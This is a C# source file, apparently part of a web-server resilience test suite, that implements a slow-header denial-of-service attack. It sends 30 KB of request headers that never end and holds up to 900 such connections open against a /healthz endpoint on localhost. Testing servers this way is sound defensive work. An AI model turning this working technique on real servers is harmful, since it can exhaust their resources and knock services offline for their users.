using TestKit;

namespace Tidings.Attacks.Attacks;

/// <summary>B47: heads of requests that fill what a web server holds of one, and do not end.</summary>
internal sealed class HalfHeads : Attack
{
    private const int Held = 900;

    private static readonly byte[] Head = Target.Bytes("GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + string.Concat(Enumerable.Range(0, 29).Select(static i => $"X-{i}: {new string('x', 1000)}\r\n")));

    private readonly Queue<RawTcp> _held = [];

    public override string Id => "heads";

    public override string What => "requests of 30 KB of headers without an end";

    public override async Task StrikeAsync(Target target, int worker, CancellationToken stop)
    {
        var socket = await target.ConnectAsync();
        await socket.TrySendAsync(Head);
        RawTcp? oldest = null;
        lock (_held)
        {
            _held.Enqueue(socket);
            oldest = _held.Count > Held ? _held.Dequeue() : null;
        }

        oldest?.Reset();
    }
}
